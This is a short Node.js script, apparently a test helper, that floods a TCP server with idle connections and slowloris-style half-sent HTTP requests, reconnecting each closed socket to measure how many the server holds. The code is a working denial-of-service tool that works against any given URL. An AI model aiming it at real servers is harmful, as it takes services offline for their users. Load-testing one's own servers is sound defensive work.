/**
 * A local flood of a TCP server, as another local process (of this user or another) could make one: IDLE
 * connections that send nothing and SLOW ones that send half a request a header at a time (slowloris). Each one
 * closed is opened again at once, so that many are held the whole time. Prints `ready` once all are open, and
 * `held N` (the most held at once) when it gets SIGTERM.
 * Usage: node flood.mjs URL IDLE SLOW
 */
import {connect} from 'node:net';

const [url, idle, slow] = process.argv.slice(2);
const {hostname, port} = new URL(url);
let open = 0;
let most = 0;
let opened = 0;
const total = Number(idle) + Number(slow);

function hold(slowloris) {
  const socket = connect(Number(port), hostname);
  let timer;
  let connected = false;
  socket.on(`connect`, () => {
    connected = true;
    open++;
    most = Math.max(most, open);
    if (++opened === total)
      console.log(`ready`);
    if (slowloris) {
      socket.write(`GET / HTTP/1.1\r\nHost: ${hostname}:${port}\r\n`);
      timer = setInterval(() => socket.write(`X-Padding: ${Date.now()}\r\n`), 200);
    }
  });
  socket.on(`error`, () => {});
  socket.on(`close`, () => {
    clearInterval(timer);
    if (connected)
      open--;
    setTimeout(() => hold(slowloris), 10);
  });
}

for (let i = 0; i < Number(idle); i++)
  hold(false);
for (let i = 0; i < Number(slow); i++)
  hold(true);
process.on(`SIGTERM`, () => {
  console.log(`held ${most}`);
  process.exit(0);
});
// Never outlives a test that forgot it (it reconnects forever otherwise).
setTimeout(() => process.exit(1), 120_000);
